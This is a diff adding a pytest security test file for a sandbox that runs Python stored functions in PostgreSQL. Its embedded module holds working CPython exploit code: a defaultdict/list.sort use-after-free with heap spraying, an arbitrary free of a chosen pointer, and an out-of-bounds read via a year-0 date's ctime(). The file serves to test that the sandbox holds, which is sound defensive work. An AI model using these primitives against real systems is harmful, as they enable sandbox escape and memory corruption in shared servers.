@@ -1,0 +1,180 @@
+"""Round 82: C code of CPython 3.11.2 that trusts a value a routine controls — the class of
+gh-123378 (round 81) — audited across builtins and the allowed modules. Two break:
+
+* `defaultdict.__missing__` calls `default_factory` without holding it. A factory that is a
+  bound C method (`lst.sort`) whose list is held by nothing else is freed, with its list,
+  when the routine's code run inside the call (an item's `__lt__`) sets `default_factory`;
+  `list.sort` then finishes by writing the list's size, item array and capacity into the
+  freed memory, and reads back from it the array it frees: a routine's bytes object that
+  took that memory changes (a write into freed memory, a heap address leaked), and a
+  pointer of the routine's choosing is passed to `PyMem_Free` (an arbitrary free).
+  (`iter(f, sentinel)`'s C iterator borrows its callable the same way; routines get it
+  behind a generator, which refuses the re-entry that would clear it: held.)
+* `datetime.date(bytes)` (the unpickling constructor) checks the month only: year 0 gives
+  a date whose weekday is -1, and `ctime()` indexes its table of day names with it
+  (`DayNames[-1]`), then `strlen`s whatever pointer it found.
+
+Promises attacked: no way out of pure computation / to the interpreter's memory (1), no
+crash of the cluster (5). A passing test: the promise held."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import psycopg
+import pytest
+
+from pyfuncs import deploy as deploying
+from pyfuncs.embedded import Cluster
+
+from .conftest import mallory_dsn, timed, value
+
+MODULE = '''
+import struct
+import datetime
+from collections import defaultdict
+from pyfuncs import stored_function
+
+_KEPT = []  # what must never be freed in this backend (an object freed under its holder)
+
+
+class _Factory(defaultdict):
+    pass
+
+
+def _sort_freed_under_it(pattern: bytes) -> list[bytes]:
+    """defaultdict calls its factory (a bound lst.sort, the list's only holder) borrowed;
+    an item's __lt__ sets default_factory: the bound method and the list are freed while
+    sort runs, and bytes objects of the list's size class take the memory. Returns those
+    that changed."""
+    count = 4000
+    big = pattern * count
+    spray: list[bytes] = []
+    state = {"hit": False}
+
+    class Item:
+        def __init__(self, v: int) -> None:
+            self.v = v
+
+        def __lt__(self, other: "Item") -> bool:
+            if not state["hit"]:
+                state["hit"] = True
+                junk = [[] for _ in range(200)]  # fills the free list of lists: the
+                del junk  # list's block goes back to the allocator
+                holder.default_factory = None
+                spray.extend([big[k * 31:(k + 1) * 31] for k in range(count)])
+            return self.v < other.v
+
+    holder = _Factory([Item(3), Item(1), Item(2)].sort)
+    holder["x"]
+    _KEPT.append(spray)
+    return [b for b in spray if b != pattern]
+
+
+@stored_function(schema="r82")
+def freed_write() -> str:
+    """The write into freed memory: which of the routine's bytes objects changed."""
+    changed = _sort_freed_under_it(struct.pack("<qqq", 0, 0, -1) + b"SPRAYED")
+    return ";".join(repr(struct.unpack("<qQq", b[:24])) for b in changed)
+
+
+@stored_function(schema="r82")
+def chosen_free() -> str:
+    """The arbitrary free: the freed list's item pointer is one of the routine's choosing
+    (a bytes object it still holds); sort frees it. A new bytes object then takes its place
+    while the old one is still held."""
+    victim = bytes(range(20, 51))  # 31 bytes: the same size class
+    _KEPT.append(victim)
+    _sort_freed_under_it(struct.pack("<qQq", 0, id(victim), -1) + b"SPRAYED")
+    fresh = [bytes([7]) * 31 for _ in range(64)]
+    _KEPT.append(fresh)
+    same = [f for f in fresh if id(f) == id(victim)]
+    return f"reused={bool(same)} victim_now={victim[:8].hex()}"
+
+
+@stored_function(schema="r82")
+def date_weekday(year_byte: int, day: int) -> int:
+    """A date made from a pickle's state with year 0: its weekday."""
+    return datetime.date(bytes([0, year_byte, 1, day])).weekday()
+
+
+@stored_function(schema="r82")
+def date_ctime(day: int) -> str:
+    """ctime() of a date of year 0 (made from a pickle's state): DayNames[weekday]."""
+    return datetime.date(bytes([0, 0, 1, day])).ctime()
+'''
+
+
+@pytest.fixture
+def r82(dsn: str, conn: psycopg.Connection[Any], cluster: Cluster, tmp_path: Path,
+        mallory_role: str) -> Any:  # fmt: skip
+    (tmp_path / "r82_mod.py").write_text(MODULE)
+    deploying.deploy(conn, str(tmp_path / "r82_mod.py"))
+    conn.execute("GRANT USAGE ON SCHEMA r82 TO mallory")
+    conn.execute("GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA r82 TO mallory")
+    conn.commit()
+    postmaster = cluster.postmaster_pid()
+    log_size = cluster.log_file.stat().st_size
+    yield dsn
+    assert cluster.postmaster_pid() == postmaster, "the cluster restarted"
+    with cluster.log_file.open(errors="replace") as log:
+        log.seek(log_size)
+        tail = log.read()
+    assert "all server processes terminated" not in tail, "the cluster went through crash recovery"
+
+
+def _connect(dsn: str) -> psycopg.Connection[Any]:
+    return psycopg.connect(mallory_dsn(dsn), autocommit=True)
+
+
+def test_a_defaultdict_factory_is_not_freed_while_it_runs(r82: str) -> None:
+    """defaultdict(lst.sort)[missing] with an item whose __lt__ sets default_factory (the
+    routine's subclass of defaultdict: its instances are the module's own): no bytes object
+    of the routine's changes (sort writing the freed list's size and items into it)."""
+    with _connect(r82) as c:
+        got, _ = timed(c, "SELECT r82.freed_write()")
+        print(got)
+        if isinstance(got, psycopg.Error):
+            assert "crashed" not in str(got), got
+            return  # refused: held
+        assert got[0] == "", f"a write into freed memory changed bytes objects: {got[0]}"
+
+
+def test_a_routine_cannot_free_an_object_of_its_choice(r82: str) -> None:
+    """The same, with the freed memory refilled by bytes that name a pointer (one of the
+    routine's bytes objects it still holds): sort passes it to PyMem_Free, and a new object
+    takes the memory of one still held."""
+    with _connect(r82) as c:
+        got, _ = timed(c, "SELECT r82.chosen_free()")
+        print(got)
+        if isinstance(got, psycopg.Error):
+            assert "crashed" not in str(got), got
+            return
+        assert got[0].startswith("reused=False"), f"an object of the routine's freed: {got[0]}"
+        assert got[0].endswith("victim_now=" + bytes(range(20, 28)).hex()), got[0]
+
+
+def test_a_date_of_year_zero_has_a_weekday_in_range(r82: str) -> None:
+    """datetime.date(b'\\x00\\x00\\x01\\x01'): the unpickling constructor checks the month
+    only; a date of year 0 has weekday -1 (the index ctime() uses)."""
+    with _connect(r82) as c:
+        got, _ = timed(c, "SELECT r82.date_weekday(0, 1)")
+        print(got)
+        assert isinstance(got, psycopg.Error) or 0 <= got[0] <= 6, got
+
+
+@pytest.mark.parametrize("day", [1, 2, 3])
+def test_ctime_of_a_date_of_year_zero_does_not_crash(r82: str, day: int) -> None:
+    """date(bytes([0, 0, 1, day])).ctime() reads DayNames[-day] and strlen()s it: a value
+    of a real day name or a clean error; the cluster carries on (checked by the fixture)
+    and other sessions keep working."""
+    with _connect(r82) as other:
+        with _connect(r82) as c:
+            got, _ = timed(c, "SELECT r82.date_ctime(%s)", [day])
+            print(day, got)
+        assert value(other, "SELECT 1") == 1
+        if not isinstance(got, psycopg.Error):
+            assert got[0][:3] in {"Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"}, got
+        else:
+            assert "crashed" not in str(got), got
